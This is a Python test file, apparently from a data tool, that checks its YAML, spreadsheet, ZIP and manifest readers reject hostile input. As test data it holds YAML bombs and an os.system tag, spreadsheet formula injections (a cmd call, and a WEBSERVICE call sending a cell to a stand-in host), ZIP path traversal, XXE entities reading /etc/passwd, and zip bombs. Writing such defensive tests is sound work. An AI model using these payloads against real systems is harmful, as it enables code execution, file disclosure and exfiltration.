"""What a fuzzer found or would look for: refused in words, never a crash, a hang or a full memory.

The targets of tests/acak.py run here under hypothesis for a small count; `make acak` runs them with
a coverage-guided fuzzer.
"""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import acak
import pytest
from bantu_data import DASAR, buku, mentah, tambal, terzip
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kinerja.data import GalatData, baca
from kinerja.laporan import keutuhan
from kinerja.laporan.keutuhan import periksa_paket, tulis_manifes
from kinerja.parameter import DALAM_YAML, GalatParameter, kebijakan, muat
from kinerja.simulasi import baca as baca_naskah


@pytest.mark.parametrize("nama", sorted(acak.SASARAN))
@settings(max_examples=8, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(isi=st.binary(min_size=6, max_size=200))
def test_sasaran_acak(nama: str, isi: bytes) -> None:
    acak.SASARAN[nama](isi)


# ---------------------------------------------------------------- YAML

TERTAWA = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 12)
)
YAML = {
    "bom-rujukan": (TERTAWA, "lebih dari 200.000 nilai"),
    "bom-kunci": ("a: &a {b: 1}\n" + "".join(f"k{i}: {{? *a : *a}}\n" for i in range(3)), ""),
    "dalam-kurung": ("a: " + "[" * 60_000 + "]" * 60_000, f"lebih dalam dari {DALAM_YAML} tingkat"),
    "dalam-tanpa-tutup": ("a: " + "{" * 60_000, ""),
    "dalam-daftar": ("- " * 60_000 + "x", f"lebih dalam dari {DALAM_YAML} tingkat"),
    "diri-sendiri": ("a: &a [*a]\n", ""),
    "angka-panjang": ("nama: " + "9" * 5000, ""),
    "desimal-panjang": ("nama: 1." + "9" * 5000, ""),
    "kunci-daftar": ("? [a, b]\n: 1\n", ""),
    "tanda-python": ("nama: !!python/object/apply:os.system ['false']\n", ""),
    "tanda-salah": ("nama: !!int kata\nubah: !!bool 7\nalasan: !!float x\n", ""),
    "tanda-biner": ("nama: !!binary é\n", ""),
    "heksa-kosong": ("nama: 0x_\n", ""),
    "gabung": ("a: &a {b: 1}\nc:\n  <<: *a\n", ""),
    "bukan-utf8": ("nama: \xff", ""),
    "nol": ("nama: \0", ""),
    "kosong": ("", ""),
    "dua-dokumen": ("a: 1\n---\nb: 2\n", ""),
}
PEMUAT = {
    "parameter": lambda b: muat(b.parents[1]),
    "skenario": lambda b: kebijakan("2024-12-31").dengan(b),
    "naskah": baca_naskah,
}


@pytest.mark.parametrize("pemuat", sorted(PEMUAT))
@pytest.mark.parametrize("kasus", sorted(YAML))
def test_yaml_jahat_ditolak_dengan_kata(kasus: str, pemuat: str, tmp_path: Path) -> None:
    isi, kata = YAML[kasus]
    berkas = tmp_path / "params" / "regulasi" / "coba.yaml"
    berkas.parent.mkdir(parents=True)
    berkas.write_bytes(isi.encode("latin-1" if kasus == "bukan-utf8" else "utf-8"))
    with pytest.raises(GalatParameter) as info:
        PEMUAT[pemuat](berkas)
    acak.bersuara(info.value)
    assert kata in str(info.value)
    assert len(str(info.value)) < 20_000


def test_yaml_terlalu_besar(tmp_path: Path) -> None:
    berkas = tmp_path / "params" / "regulasi" / "coba.yaml"
    berkas.parent.mkdir(parents=True)
    with berkas.open("wb") as f:
        f.truncate(6 * 1024**2)
    for muatkan in PEMUAT.values():
        with pytest.raises(GalatParameter, match="lebih besar dari 5 MB"):
            muatkan(berkas)


@pytest.mark.parametrize(
    "naskah",
    [
        "populasi: {cakupan: [a]}\nskenario: []",
        "populasi: {cakupan: {a: 1}}\nskenario: 1",
        "populasi: {}\nskenario: [{nama: [a], skema: x}, {nama: [a], skema: x}]",
        "populasi: {pegawai: .nan}\nskenario: [{nama: 1e999}, {}]\nformat: [[a]]",
        "populasi: {}\nskenario: [{nama: a, skema: x, regulasi: [1], bulan: 99}]\nkolom: [1]",
        "1: 2\n? 2022-01-01\n: 3\n",
        "populasi: {}\nskenario: [{1: 2}, [3]]\nsapuan: {[1]: 2}\n",
    ],
)
def test_naskah_berjenis_salah(naskah: str, tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(naskah)
    with pytest.raises(GalatParameter) as info:
        baca_naskah(tmp_path / "a.yaml")
    acak.bersuara(info.value)


# ---------------------------------------------------------------- workbooks


RUMUS_KELUAR = {
    "cmd|'/c calc'!A0": "menjalankan program lain",
    "'excel'|'C:\\[a.xlsx]S'!A1": "menjalankan program lain",
    'HYPERLINK("http://contoh.invalid","buka")': "HYPERLINK menjangkau",
    'IFERROR(_xlfn.WEBSERVICE("http://contoh.invalid/"&B2),0)': "WEBSERVICE menjangkau",
    "'[lain.xlsx]Lembar Satu'!A1": "dari buku kerja lain",
    "VLOOKUP(B2,[1]Rujukan!$A:$B,2,0)": "dari buku kerja lain",
    "[2]!NamaRentang": "dari buku kerja lain",
    "SUM(" + "1+" * 5000 + "1)": "lebih panjang",
}
RUMUS_DALAM = [
    "6*2",
    "SUM(Tabel1[Target])-Bantu!B2",
    "'Lembar A|B'!A1",
    '"[1]x!"&"HYPERLINK("',
    "Tabel1[[#This Row],[A]]",
]


def berumus(berkas: Path, rumus: str, tersimpan: bool = True) -> Path:
    """A workbook whose cell opd!A3 is this formula, with or without its stored result."""
    isi = [["kode", "nama"], ["DINKES", "Dinas"], [(f"={rumus}", "KODE"), "Badan"], ["BKPSDM", "Badan"]]
    buku(berkas, mentah(DASAR, opd=isi))
    return berkas if tersimpan else tambal(berkas, rb' t="str"><f>(.*?)</f><v>KODE</v>', rb"><f>\1</f>")


@pytest.mark.parametrize("rumus", list(RUMUS_KELUAR))
def test_rumus_yang_menjangkau_keluar_ditolak(rumus: str, tmp_path: Path) -> None:
    """With the value that a spreadsheet stored and without it, at its sheet, row and column."""
    for tersimpan in (True, False):
        with pytest.raises(GalatData) as info:
            baca(berumus(tmp_path / "a.xlsx", rumus, tersimpan))
        (t,) = [t for t in info.value.temuan if t.huruf == "A" and t.baris == 3]
        assert (t.lembar, t.nilai) == ("opd", f"={rumus}"[:80])
        assert RUMUS_KELUAR[rumus] in t.pesan
        assert "nilainya" in t.perbaikan
        assert "kolom A, baris 3: rumus" in str(info.value)


@pytest.mark.parametrize("rumus", RUMUS_DALAM)
def test_rumus_di_dalam_buku_dibaca_nilainya(rumus: str, tmp_path: Path) -> None:
    """Never computed: the stored value counts, and without one the cell is refused."""
    assert baca(berumus(tmp_path / "a.xlsx", rumus)).tabel["opd"]["kode"].tolist()[1] == "KODE"
    berkas = berumus(tmp_path / "b.xlsx", rumus, tersimpan=False)
    with pytest.raises(GalatData, match="rumus yang hasilnya belum tersimpan"):
        baca(berkas)


def test_rumus_disembunyikan_dalam_xml(tmp_path: Path) -> None:
    for f in (b"HYPER<!-- -->LINK(1)", b"<![CDATA[HYPERLINK(1)]]>", b"&#72;YPERLINK(1)", b"hyperlink (1)"):
        berkas = berumus(tmp_path / "a.xlsx", "6*2")
        tambal(berkas, rb"<f>6\*2</f>", b'<f ca="1" xml:space="preserve">' + f + b"</f >")
        with pytest.raises(GalatData, match="HYPERLINK menjangkau"):
            baca(berkas)


def test_semua_rumus_keluar_disebut_sekaligus(tmp_path: Path) -> None:
    berkas = buku(tmp_path / "a.xlsx", mentah(DASAR))
    tambal(berkas, rb"</sheetData>", b'<row r="9"><c r="AB9"><f>[1]S!A1</f><v>1</v></c></row></sheetData>')
    with pytest.raises(GalatData) as info:
        baca(berkas)
    assert [(t.lembar, t.huruf, t.baris) for t in info.value.temuan] == [
        ("opd", "AB", 9),
        ("pegawai", "AB", 9),
    ]


# ---------------------------------------------------------------- what is in the ZIP


def bagian(tmp_path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(buku(tmp_path / "utuh.xlsx", mentah(DASAR))) as z:
        return {n: z.read(n) for n in z.namelist()}


def ditolak(tmp_path: Path, isi: bytes, kata: str) -> GalatData:
    (tmp_path / "a.xlsx").write_bytes(isi)
    with pytest.raises(GalatData) as info:
        baca(tmp_path / "a.xlsx")
    acak.bersuara(info.value)
    assert kata in str(info.value)
    return info.value


@pytest.mark.parametrize(
    ("nama", "kata"),
    [
        ("xl/vbaProject.bin", "berisi makro"),
        ("XL/VBAPROJECT.BIN", "berisi makro"),
        ("xl/macrosheets/sheet1.xml", "berisi makro"),
        ("xl/connections.xml", "terhubung ke data di luarnya"),
        ("xl/queryTables/queryTable1.xml", "terhubung ke data di luarnya"),
        ("xl/externalLinks/externalLink1.xml", "bertaut ke buku kerja atau program lain"),
        ("../../etc/cron.d/x", "bernama keluar dari berkasnya"),
        ("xl/..\\..\\x", "bernama keluar dari berkasnya"),
        ("/etc/x", "bernama keluar dari berkasnya"),
        ("C:/x", "bernama keluar dari berkasnya"),
        ("xl/Workbook.xml", "dua bagian di dalam berkas bernama sama"),
        ("xl\\workbook.xml", "dua bagian di dalam berkas bernama sama"),
    ],
)
def test_bagian_terlarang(nama: str, kata: str, tmp_path: Path) -> None:
    ditolak(tmp_path, terzip({**bagian(tmp_path), nama: b"<x/>"}), kata)


def test_bawaan_disebut_sekaligus(tmp_path: Path) -> None:
    lain = {
        "xl/vbaProject.bin": b"x",
        "xl/connections.xml": b"<x/>",
        "xl/externalLinks/externalLink1.xml": b"<x/>",
    }
    galat = ditolak(tmp_path, terzip({**bagian(tmp_path), **lain}), "3 galat")
    assert len(galat.temuan) == 3
    berkas = tambal(
        tmp_path / "a.xlsx", rb"</sheetData>", b'<row r="9"><c r="B9"><f>[1]S!A1</f></c></row></sheetData>'
    )  # of the links, the cells that use them
    with pytest.raises(GalatData) as info:
        baca(berkas)
    assert [(t.lembar, t.huruf, t.baris) for t in info.value.temuan if t.lembar] == [
        ("opd", "B", 9),
        ("pegawai", "B", 9),
    ]


def test_nama_ganda_dalam_zip(tmp_path: Path) -> None:
    keluar = io.BytesIO(terzip(bagian(tmp_path)))
    with zipfile.ZipFile(keluar, "a") as z, pytest.warns(UserWarning, match="Duplicate name"):
        z.writestr("xl/workbook.xml", b"<x/>")
    ditolak(tmp_path, keluar.getvalue(), "dua bagian di dalam berkas bernama sama")


def test_hubungan_keluar_dari_zip(tmp_path: Path) -> None:
    isi = bagian(tmp_path)
    hubungan = isi["xl/_rels/workbook.xml.rels"]
    for tujuan in (
        b"../../../../etc/passwd",
        b"file:///etc/passwd",
        b"/etc/passwd",
        b"http://contoh.invalid/x",
    ):
        baru = {**isi, "xl/_rels/workbook.xml.rels": hubungan.replace(b"worksheets/sheet1.xml", tujuan)}
        ditolak(tmp_path, terzip(baru), "rusak")


def test_zip_di_dalam_zip(tmp_path: Path) -> None:
    """A bomb in a part is never opened; as a sheet it is no XML; a workbook in an archive is an archive."""
    bom = terzip({"nol": bytes(50 * 1024**2)})
    isi = bagian(tmp_path)
    (tmp_path / "b.xlsx").write_bytes(terzip({**isi, "xl/embeddings/bom.zip": bom}))
    assert len(baca(tmp_path / "b.xlsx").tabel["pegawai"]) == 3
    for nama in ("xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml"):
        ditolak(tmp_path, terzip({**isi, nama: bom}), "bukan XML bersandi UTF-8")
    ditolak(tmp_path, terzip({"data.xlsx": terzip(isi)}), "arsip ZIP, bukan buku kerja")


@pytest.mark.parametrize(
    "nama", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/sharedStrings.xml", "xl/SHAREDSTRINGS.xml"]
)
@pytest.mark.parametrize("besar", [5, 2**31])
def test_ukuran_yang_bohong(nama: str, besar: int, tmp_path: Path) -> None:
    """The directory says 5 bytes, or 2 GB, of a part that unpacks to 20 MB."""
    isi = bagian(tmp_path)
    asal = next(n for n in isi if n.lower() == nama.lower())
    isi[nama] = isi.pop(asal) + b" " * 20 * 1024**2
    keluar = bytearray(terzip(isi))
    letak = keluar.rindex(nama.encode()) - 46 + 24  # the size in the central directory
    assert int.from_bytes(keluar[letak : letak + 4], "little") == len(isi[nama])
    keluar[letak : letak + 4] = besar.to_bytes(4, "little")
    ditolak(tmp_path, bytes(keluar), "rusak" if besar == 5 else "mengembang menjadi")


ENTITAS = {
    "tertawa": b"".join(
        b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10 if i else b"lol") for i in range(12)
    ),
    "kuadrat": b'<!ENTITY l11 "' + b"x" * 100_000 + b'">',
    "luar": b'<!ENTITY l11 SYSTEM "file:///etc/passwd">',
    "parameter": b'<!ENTITY % p SYSTEM "http://contoh.invalid/x.dtd"> %p;',
}


@pytest.mark.parametrize("jenis", sorted(ENTITAS))
@pytest.mark.parametrize(
    "nama", ["xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"]
)
def test_entitas_xml(jenis: str, nama: str, tmp_path: Path) -> None:
    isi = bagian(tmp_path)
    kepala, badan = isi[nama].split(b"?>", 1)
    awal, akhir = badan.rsplit(b"</", 1)
    dtd = b"<!DOCTYPE x [" + ENTITAS[jenis] + b"]>" + awal + b"&l11;" * 2000 + b"</" + akhir
    ditolak(tmp_path, terzip({**isi, nama: kepala + b"?>" + dtd}), "deklarasi DTD")
    # the same where no search for bytes would see it
    for sandi in ("utf-16", "utf-16-be", "utf-7", "cp037", "utf-32"):
        lain = (kepala + b"?>" + dtd).replace(b"UTF-8", sandi.upper().encode())
        ditolak(tmp_path, terzip({**isi, nama: lain.decode().encode(sandi)}), "bukan XML bersandi UTF-8")


# ---------------------------------------------------------------- printed packs


def manifes(**isi: object) -> bytes:
    return tulis_manifes({"berkas": {}, **isi}).encode()


@pytest.mark.parametrize(
    "isi",
    [
        manifes(paket={"bkd": {"berkas": {}}}),  # no status
        manifes(paket={"bkd": {"status": []}}),
        manifes(paket={"bkd": {"berkas": {"a": {}}, "status": "gagal"}}, tanda=[1]),
        manifes(paket=[]),
        manifes(berkas=[1]),
        manifes(berkas={"../x": "0", "/etc/passwd": "0", "a\x00b": "0", "": "0"}),
        manifes(paket={"\x1b[2J\n  semua: utuh": {"status": "gagal"}}),
        b"null",
        b"[" * 100_000,
        b'{"berkas": {}, "sidik": "\\ud800"}',
        b"9" * 5000,
        b"\xff",
        b"",
    ],
)
def test_manifes_jahat(isi: bytes, tmp_path: Path) -> None:
    """With its own digest right, too: told in words, one line each, never a crash."""
    (tmp_path / "manifes.json").write_bytes(isi)
    (tmp_path / "a.zip").write_bytes(terzip({"manifes.json": isi}))
    for di in (tmp_path, tmp_path / "a.zip"):
        hasil = periksa_paket(di)
        assert len(str(hasil).splitlines()) == 1 + len(hasil.kerusakan) + len(hasil.catatan)
        assert str(hasil).replace("\n", "").isprintable()
        assert not hasil.utuh or isi.startswith(b"{")


def test_nama_berkas_yang_bukan_teks(tmp_path: Path) -> None:
    """A name that is not UTF-8, or that would write on the terminal."""
    (tmp_path / "manifes.json").write_bytes(manifes())
    for nama in (b"\xff\xfe", b"a\n  b: utuh", b"\x1b[2J"):
        Path(os.fsdecode(bytes(tmp_path) + b"/" + nama)).write_bytes(b"")
    hasil = periksa_paket(tmp_path)
    assert len(hasil.kerusakan) == 3
    assert len(str(hasil).encode("utf-8").splitlines()) == 1 + 3 + 1
    assert "\x1b" not in str(hasil)


def test_bom_dalam_cetakan(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(keutuhan, "BATAS_MANIFES", 2**20)
    (tmp_path / "a.zip").write_bytes(terzip({"manifes.json": bytes(2**20 + 1)}))
    assert "manifes.json: tidak dapat dibaca (lebih besar dari 1 MB)" in str(
        periksa_paket(tmp_path / "a.zip")
    )
    monkeypatch.setattr(keutuhan, "BATAS_ZIP", 2**20)
    assert "isinya mengembang menjadi 0 GB" in str(periksa_paket(tmp_path / "a.zip"))
